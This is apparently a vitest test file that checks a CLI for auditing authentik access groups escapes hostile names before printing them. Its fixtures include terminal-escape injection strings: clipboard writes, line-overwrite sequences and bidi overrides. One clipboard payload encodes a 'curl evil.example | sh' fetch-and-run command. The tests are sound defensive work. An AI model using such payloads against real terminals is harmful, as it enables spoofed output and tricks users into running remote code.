import { Writable } from "node:stream";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Env } from "../../src/config/index.js";
import { runCli } from "../../src/cli/index.js";
import { createLogger } from "../../src/logger.js";
import { loadSimulatorState, startSimulator } from "../../src/simulator/index.js";
import type { Simulator, SimulatorState } from "../../src/simulator/index.js";
import { runCliCaptured } from "../fixtures/run-cli-captured.js";

const EXAMPLE_STATE = fileURLToPath(new URL("../../examples/authentik-state.json", import.meta.url));
const EXAMPLE_RUNBOOK = fileURLToPath(new URL("../../examples/access-groups.md", import.meta.url));
const MEDIA_USERS = "0820b2b8-6c54-4c20-9a0a-872820e6d9ea";

// What someone who may rename a group or an app could write into its name: an OSC 52 clipboard write,
// erase-line and cursor-up (to overwrite the lines above), a one-character C1 CSI, and a bidi override.
const CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
const ERASE_UP = "\u001b[2K\u001b[1A\r";
const HOSTILE_GROUP = `media-users${ERASE_UP}in sync${CLIPBOARD}`;
const HOSTILE_APP = `Evil\u202eppa\u202c\u009b2J`;
const HOSTILE_USER = `mallory${ERASE_UP}`;
/** Any character a terminal would act on instead of print (a line feed between lines aside). */
const ACTING = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;

let documented: SimulatorState;
let token: string;
let simulator: Simulator;

beforeAll(async () => {
  documented = await loadSimulatorState(EXAMPLE_STATE);
  token = documented.tokens[0]?.key ?? "";
  simulator = await startSimulator({ state: structuredClone(documented) });
});
beforeEach(() => {
  simulator.setState(hostile(documented));
  simulator.clearFaults();
});
afterAll(async () => {
  await simulator.close();
});

/** The example tenant with a renamed group, a new app and a new member, all named by an attacker. */
function hostile(state: SimulatorState): SimulatorState {
  const edited = structuredClone(state);
  for (const group of edited.groups) if (group.pk === MEDIA_USERS) group.name = HOSTILE_GROUP;
  edited.users.push({ pk: 99, username: HOSTILE_USER, name: HOSTILE_USER });
  edited.groups.find((group) => group.pk === MEDIA_USERS)?.members?.push(HOSTILE_USER);
  edited.applications.push({ pk: "6b1c2d3e-4f50-4617-8829-3a4b5c6d7e90", slug: "evil", name: HOSTILE_APP });
  edited.bindings.push({
    pk: "6b1c2d3e-4f50-4617-8829-3a4b5c6d7e91",
    target: "6b1c2d3e-4f50-4617-8829-3a4b5c6d7e90",
    group: MEDIA_USERS,
    order: 0,
  });
  return edited;
}

function live(): Env {
  return { AUTHENTIK_URL: simulator.url, AUTHENTIK_TOKEN: token, AK_ACCESS_BASELINE: EXAMPLE_RUNBOOK };
}

describe("terminal output: names from authentik cannot drive the terminal", () => {
  it("check: every hostile name is shown with its control characters made visible", async () => {
    const run = await runCliCaptured(["check"], live());

    expect(run.code).toBe(1);
    expect(run.stdout).not.toMatch(ACTING);
    expect(run.stdout).toContain("media-users\\x1b[2K\\x1b[1A\\x0din sync\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07");
    expect(run.stdout).toContain("Evil\\u202eppa\\u202c\\x9b2J");
    expect(run.stdout).toContain("mallory\\x1b[2K\\x1b[1A\\x0d");
  });

  it("access: the matrix and one user's view show the names made visible", async () => {
    const matrix = await runCliCaptured(["access"], live());
    const user = await runCliCaptured(["access", "--user", HOSTILE_USER], live());

    expect(matrix.code).toBe(0);
    expect(matrix.stdout).not.toMatch(ACTING);
    expect(matrix.stdout).toContain("Evil\\u202eppa\\u202c\\x9b2J (evil)");
    expect(matrix.stdout).toContain("mallory\\x1b[2K\\x1b[1A\\x0d");
    expect(user.code).toBe(0);
    expect(user.stdout).not.toMatch(ACTING);
    expect(user.stdout.split("\n")[0]).toBe("mallory\\x1b[2K\\x1b[1A\\x0d");
    expect(user.stdout).toContain("group:media-users\\x1b[2K");
  });

  it("errors: an unknown user given on the command line and authentik's own error text are made visible", async () => {
    const unknown = await runCliCaptured(["access", "--user", `nobody${CLIPBOARD}`], live());
    simulator.addFault({ path: "/api/v3/core/groups/", status: 400, body: { detail: `bad${ERASE_UP}${CLIPBOARD}` } });
    const failed = await runCliCaptured(["check"], live());

    expect(unknown.code).toBe(2);
    expect(unknown.stderr).not.toMatch(ACTING);
    expect(unknown.stderr).toContain('no user with username "nobody\\x1b]52;c;');
    expect(failed.code).toBe(2);
    expect(failed.stderr).not.toMatch(ACTING);
    expect(failed.stderr).toBe(
      'ak-access: GET /core/groups/ (page 1) answered 400 Bad Request: "bad\\x1b[2K\\x1b[1A\\x0d\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07"\n',
    );
  });

  it.each([
    // JSON escapes the sanitiser's backslash once more.
    ["JSON", false, "mallory\\\\x1b[2K", "Evil\\\\u202eppa"],
    ["pretty, on a terminal", true, "mallory\\x1b[2K", "Evil\\u202eppa"],
  ])("logs (%s): message and fields are made visible", (_format, isTTY, message, field) => {
    let written = "";
    const stream = Object.assign(
      new Writable({
        write(chunk: Buffer, _encoding, done) {
          written += chunk.toString("utf8");
          done();
        },
      }),
      { isTTY },
    );
    const logger = createLogger("info", stream, false);

    logger.error({ err: `group ${HOSTILE_GROUP}`, nested: { name: HOSTILE_APP } }, `audit failed for ${HOSTILE_USER}`);

    expect(written).not.toMatch(ACTING);
    // JSON escapes control characters itself, but not bidi overrides; the sanitiser's notation covers both.
    expect(written).not.toContain("\\u001b");
    expect(written).toContain(message);
    expect(written).toContain(field);
  });

  // JSON escapes ESC itself but not a right-to-left override: piped exactly, made visible on a terminal.
  // Markdown writes every such character as a character reference, so it is the same either way.
  it.each([
    ["check --format json", ["check", "--format", "json"], "\u202e", "\\u202e"],
    ["access --format json", ["access", "--format", "json"], "\u202e", "\\u202e"],
    ["check --format markdown", ["check", "--format", "markdown"], "&#8238;", "&#8238;"],
    ["report", ["report"], "&#8238;", "&#8238;"],
  ])("%s: into a pipe as made, on a terminal with nothing the terminal would act on", async (_name, argv, inPipe, onTerminal) => {
    let shown = "";
    const terminal = { isTTY: true, write: (chunk: string) => (shown += chunk) };
    await runCli(argv, {
      env: { ...live(), NO_COLOR: "1", AK_ACCESS_LOG_LEVEL: "silent" },
      stdout: terminal,
      stderr: { write: () => true },
      now: () => new Date(),
    });
    const piped = await runCliCaptured(argv, live());

    expect(shown).not.toMatch(ACTING);
    expect(shown).toContain(onTerminal);
    expect(piped.stdout).toContain(inPipe);
  });
});
